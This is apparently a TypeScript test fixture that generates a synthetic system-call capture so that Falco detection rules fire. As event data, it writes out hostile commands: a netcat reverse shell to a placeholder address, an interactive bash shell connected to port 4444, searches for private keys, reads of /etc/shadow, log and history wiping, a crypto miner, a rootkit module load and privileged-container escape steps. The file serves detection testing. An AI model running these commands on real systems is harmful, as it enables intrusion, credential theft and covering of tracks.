// A capture built with the scenario builder in which many rules of falco_rules-2022-03.yaml fire: shells
// spawned from services, writes below /etc, /root and binary dirs, sensitive reads, containers (privileged,
// with a tty), network tools, setuid, links over sensitive files... Every event is in the compat layout
// (2022 enter event + current exit event), so sysdig 0.29.3 and falco-replay read the same story.
import type { ParamValue } from './scap.js';
import { O, Scenario, type ScenarioThread } from './scenario.js';

const EVT = {
  MKDIR_E: 276, MKDIR_X: 277, RENAMEAT2_E: 318, RENAMEAT2_X: 319, UNLINKAT_E: 302, UNLINKAT_X: 303, SYMLINKAT_E: 180, SYMLINKAT_X: 181,
  LINKAT_E: 310, LINKAT_X: 311, SETUID_E: 198, SETUID_X: 199, DUP_E: 124, DUP_X: 125, USERFAULTFD_E: 320, USERFAULTFD_X: 321,
  FCHMODAT_E: 312, FCHMODAT_X: 313, CONTAINER_JSON: 272, SOCKET_E: 18, SOCKET_X: 19, CREAT_E: 58, CREAT_X: 59,
}; // prettier-ignore

/** An enter/exit pair for a thread at the scenario clock. */
function pair(s: Scenario, t: ScenarioThread, enter: number, enterParams: ParamValue[], exit: number, exitParams: ParamValue[]): void {
  s.event({ ts: s.now, tid: t.tid, cpu: t.cpu, type: enter, params: enterParams });
  s.advance(2000n);
  s.event({ ts: s.now, tid: t.tid, cpu: t.cpu, type: exit, params: exitParams });
  s.advance(1000n);
}

const CONTAINER_ID = '3ad7b26ded6d';
const PRIV_ID = 'c0ffee000001';

/** The story capture as bytes. */
export function rulesStoryCapture(): Buffer {
  const s = new Scenario({
    users: [
      { uid: 0, gid: 0, name: 'root', home: '/root', shell: '/bin/bash' },
      { uid: 1000, gid: 1000, name: 'alice', home: '/home/alice', shell: '/bin/bash' },
      { uid: 2, gid: 2, name: 'daemon', home: '/usr/sbin', shell: '/usr/sbin/nologin' },
    ],
    groups: [
      { gid: 0, name: 'root' },
      { gid: 1000, name: 'alice' },
    ],
  });
  // Container metadata (a plain one and a privileged one with sensitive mounts).
  const json = (id: string, name: string, image: string, privileged: boolean, mounts: { Source: string; Destination: string }[]): string =>
    JSON.stringify({ container: { id, name, image, imagerepo: image.split(':')[0], imagetag: 'latest', type: 0, privileged, ip: '172.17.0.2', Mounts: mounts.map((m) => ({ ...m, Mode: '', RW: true, Propagation: 'rprivate' })) } }); // prettier-ignore
  s.event({ ts: 0n, tid: 0, type: EVT.CONTAINER_JSON, params: [json(CONTAINER_ID, 'web', 'nginx:latest', false, [])] });
  s.event({ ts: 0n, tid: 0, type: EVT.CONTAINER_JSON, params: [json(PRIV_ID, 'priv', 'busybox:latest', true, [{ Source: '/var/run/docker.sock', Destination: '/var/run/docker.sock' }, { Source: '/proc', Destination: '/host/proc' }])] }); // prettier-ignore

  const init = s.process({ pid: 1, ppid: 0, comm: 'systemd', exepath: '/usr/lib/systemd/systemd', args: [] });
  const sshd = s.process({ pid: 800, ppid: 1, comm: 'sshd', exepath: '/usr/sbin/sshd', args: ['-D'] });
  const mysqld = s.process({ pid: 900, ppid: 1, comm: 'mysqld', exepath: '/usr/sbin/mysqld', uid: 27 });
  const nginx = s.process({ pid: 950, ppid: 1, comm: 'nginx', exepath: '/usr/sbin/nginx' });
  s.process({ pid: 2000, ppid: 1, comm: 'containerd-shim', exepath: '/usr/bin/containerd-shim' });
  const cshell = s.process({ pid: 2100, ppid: 2000, comm: 'runc:[1:CHILD]', exepath: '/usr/bin/runc', container: CONTAINER_ID });
  const pshell = s.process({ pid: 2200, ppid: 2000, comm: 'runc:[1:CHILD]', exepath: '/usr/bin/runc', container: PRIV_ID });
  void init;

  // A system user logged in interactively (daemon), then alice's login shell: sshd -> bash (tty).
  s.advance(1_000_000n);
  sshd.uid = 2;
  const dsh = sshd.clone();
  dsh.execve('/bin/bash', ['-bash'], { comm: 'bash', tty: 34815 });
  dsh.exit();
  sshd.uid = 1000;
  const sess = sshd.clone();
  sshd.uid = 0;
  sess.execve('/bin/bash', ['-bash'], { comm: 'bash', tty: 34816 });
  const w = (path: string, flags: number = (O.WRONLY as number) | (O.CREAT as number), mode = 0o644): number => sess.open(path, flags, { mode });
  // Modify Shell Configuration File, Write below etc/root/binary dir/rpm db/monitored dir, Update Package Repository.
  sess.close(w('/home/alice/.bashrc'));
  sess.close(w('/etc/evil.conf'));
  sess.close(w('/root/.evil'));
  sess.close(w('/usr/bin/evil'));
  sess.close(w('/var/lib/rpm/Packages'));
  sess.close(w('/etc/apt/sources.list'));
  sess.close(w('/etc/cron.d/evil'));
  // Create files below dev, hidden files, clear logs, truncate shell history.
  sess.close(w('/dev/evilnode'));
  sess.close(w('/tmp/.hidden'));
  sess.close(w('/var/log/syslog', (O.WRONLY as number) | (O.TRUNC as number)));
  sess.close(w('/home/alice/.bash_history', (O.WRONLY as number) | (O.TRUNC as number)));
  // Read sensitive file untrusted / trusted after startup.
  const cat = sess.clone();
  cat.execve('/bin/cat', ['cat', '/etc/shadow']);
  cat.close(cat.open('/etc/shadow', O.RDONLY));
  cat.exit();
  s.advance(6_000_000_000n);
  nginx.close(nginx.open('/etc/shadow', O.RDONLY));
  // Programs run from the login shell.
  const run = (path: string, args: string[], opts: { comm?: string; env?: string[] } = {}): ScenarioThread => {
    const c = sess.clone();
    c.execve(path, args, opts);
    return c;
  };
  run('/usr/bin/crontab', ['crontab', '-e']).exit();
  run('/usr/sbin/useradd', ['useradd', 'mallory']).exit();
  run('/usr/bin/nmap', ['nmap', '-sS', '10.0.0.0/24']).exit();
  run('/usr/bin/find', ['find', '/', '-name', 'id_rsa']).exit();
  run('/usr/bin/grep', ['grep', '-r', 'BEGIN PRIVATE', '/home']).exit();
  run('/usr/bin/shred', ['shred', '-u', 'data.db']).exit();
  run('/bin/rm', ['rm', '/home/alice/.bash_history']).exit();
  run('/usr/bin/wget', ['wget', 'http://example.com/x'], { env: ['HTTP_PROXY=http://proxy:3128', 'PATH=/usr/bin'] }).exit();
  run('/usr/bin/xmrig', ['xmrig', '-o', 'stratum+tcp://pool.example:3333']).exit();
  run('/usr/bin/pkexec', ['pkexec']).exit();
  const sudo = sess.clone();
  sudo.execve('/usr/bin/sudoedit', ['sudoedit', '-s', '/etc/passwd']);
  sudo.exit();
  // Non sudo setuid and userfaultfd from an unprivileged process.
  const ap = sess.clone();
  ap.execve('/usr/local/bin/app', ['app']);
  pair(s, ap, EVT.SETUID_E, [0], EVT.SETUID_X, [0, 0]);
  pair(s, ap, EVT.USERFAULTFD_E, [], EVT.USERFAULTFD_X, [5, 0]);
  ap.exit();
  // Filesystem changes: mkdir and renames below binary dirs, history removal, links over sensitive files.
  pair(s, sess, EVT.MKDIR_E, [0o755], EVT.MKDIR_X, [0, '/bin/evil', 0o755]);
  pair(s, sess, EVT.RENAMEAT2_E, [], EVT.RENAMEAT2_X, [0, -100, '/bin/ls', -100, '/bin/ls.bak', 0]);
  pair(s, sess, EVT.RENAMEAT2_E, [], EVT.RENAMEAT2_X, [0, -100, '/home/alice/.bash_history', -100, '/home/alice/.x', 0]);
  pair(s, sess, EVT.UNLINKAT_E, [], EVT.UNLINKAT_X, [0, -100, '/home/alice/.bash_history', 0]);
  pair(s, sess, EVT.SYMLINKAT_E, [], EVT.SYMLINKAT_X, [0, '/etc/shadow', -100, '/tmp/shadow-link']);
  pair(s, sess, EVT.LINKAT_E, [], EVT.LINKAT_X, [0, -100, '/etc/shadow', -100, '/tmp/shadow-hard', 0]);
  pair(s, sess, EVT.FCHMODAT_E, [], EVT.FCHMODAT_X, [0, -100, '/tmp/suid', 0o4755]);
  // Network: ssh out, an outbound connection from bash.
  const sock = sess.socket(2, 1, 6);
  sess.connect(sock, '192.0.2.10:22', '10.0.0.2:40022');
  sess.close(sock);
  // A database server spawning a shell.
  const dbsh = mysqld.clone();
  dbsh.execve('/bin/sh', ['sh', '-c', 'id']);
  dbsh.exit();

  // Container shells: a terminal shell, tools, package manager, drift, dup of a socket to stdout.
  const csh = cshell.clone();
  csh.execve('/bin/bash', ['bash'], { tty: 34817 });
  const crun = (path: string, args: string[]): ScenarioThread => {
    const c = csh.clone();
    c.execve(path, args);
    return c;
  };
  crun('/usr/bin/apt', ['apt', 'install', 'nmap']).exit();
  crun('/bin/nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']).exit();
  crun('/usr/bin/nmap', ['nmap', 'localhost']).exit();
  crun('/usr/bin/scp', ['scp', 'x', 'y:']).exit();
  crun('/usr/bin/kubectl', ['kubectl', 'get', 'pods']).exit();
  crun('/sbin/insmod', ['insmod', 'rootkit.ko']).exit();
  crun('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://example.com/x']).exit();
  const drift = csh.clone();
  drift.execve('/bin/cp', ['cp', 'a', '/usr/local/bin/b']);
  drift.close(drift.open('/usr/local/bin/b', (O.WRONLY as number) | (O.CREAT as number), { mode: 0o755 }));
  pair(s, drift, EVT.FCHMODAT_E, [], EVT.FCHMODAT_X, [0, -100, '/usr/local/bin/b', 0o755]);
  drift.exit();
  const rev = csh.clone();
  rev.execve('/bin/bash', ['bash', '-i']);
  const rs = rev.socket(2, 1, 6);
  rev.connect(rs, '198.51.100.7:4444', '172.17.0.2:51000');
  pair(s, rev, EVT.DUP_E, [rs], EVT.DUP_X, [1]);
  const md = rev.socket(2, 1, 6);
  rev.connect(md, '169.254.169.254:80', '172.17.0.2:51001');
  const np = rev.socket(2, 1, 6);
  rev.connect(np, '10.0.0.5:31000', '172.17.0.2:51002');
  pair(s, rev, EVT.SOCKET_E, [17, 3, 0], EVT.SOCKET_X, [9, 17, 3, 0, 0]);
  rev.exit();
  // Privileged container: debugfs and mount.
  const psh = pshell.clone();
  psh.execve('/bin/sh', ['sh']);
  const prun = (path: string, args: string[]): void => {
    const c = psh.clone();
    c.execve(path, args);
    c.exit();
  };
  prun('/sbin/debugfs', ['debugfs', '/dev/sda1']);
  prun('/bin/mount', ['mount', '/dev/sda1', '/mnt']);
  return s.toBuffer();
}
